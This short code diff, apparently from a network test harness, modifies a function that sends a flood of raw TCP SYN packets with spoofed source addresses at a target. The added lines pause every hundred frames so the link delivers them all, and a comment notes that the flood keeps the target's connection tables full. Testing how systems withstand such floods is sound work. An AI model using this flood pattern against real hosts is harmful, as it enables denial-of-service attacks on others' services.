@@ -18,6 +18,8 @@ def flood(peer: Peer) -> None:
         source = f"198.51.{number >> 8}.{number & 255}"
         text = frames.tcp((source, 2000), (peer.target.address, peer.target.port), number, 0, SYN, options=MSS_OPTION)
         peer.frame(frames.ipv4(source, peer.target.address, 6, text))
+        if number % 100 == 99:
+            time.sleep(0.003)  # else the link loses them
     time.sleep(1.1)  # while they come, a first SYN may be left without an answer; the tables stay full behind them
 
 
